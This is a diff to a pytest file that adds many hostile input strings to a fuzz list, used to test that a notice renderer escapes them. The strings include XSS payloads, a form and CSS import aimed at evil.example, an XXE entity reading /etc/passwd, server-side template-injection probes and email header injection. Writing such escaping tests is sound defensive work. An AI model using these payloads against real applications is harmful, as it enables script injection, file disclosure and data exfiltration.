@@ -284,6 +284,42 @@ HOSTILE = [
     "\x00\x07\x1b[31m",
     "😀𠮷" * 40,
     "\ud800",
+    "</td></tr></table><p>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=密码>",
+    "<style>@import url(https://evil.example)</style>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<!-- ",
+    "<![CDATA[",
+    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    'https://evil.example/"onmouseover=alert(1)',
+    "//evil.example/x",
+    "mailto:x@evil.example?bcc=y@evil.example",
+    "{{ self.__init__.__globals__ }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% include '/etc/passwd' %}",
+    "{# 注释 #}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "%(x)s %s {0} {x}",
+    "a\nSubject: 假的",
+    "a\r\n\r\n<b>正文</b>",
+    "a\x0bb\x0cc\x85d",
+    "=?utf-8?B?QmNjOiB4?=",
+    '"王芳" <x@evil.example>,',
+    "x@evil.example, y@evil.example",
+    "\u200b\u200c\u200d\ufeff",
+    "\u202d\u2067a\u2069\u202c",
+    "e\u0301\u0301\u0301" * 30,
+    "\uffff\ufffe",
+    "\U0010ffff",
+    "&#x3c;script&#x3e;",
+    "＜script＞",
+    "a" * 5_000,
 ]
 
 
@@ -303,7 +339,7 @@ class Texts(HTMLParser):
         self.tags.append((tag, dict(attrs)))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
 def test_hostile_text__anywhere__is_shown_as_text_and_changes_nothing_else(text: str) -> None:
     tame = collaboration(overdue(2, name="甲", problem="乙", measure="丙", block_type="丁"))
     wild = replace(
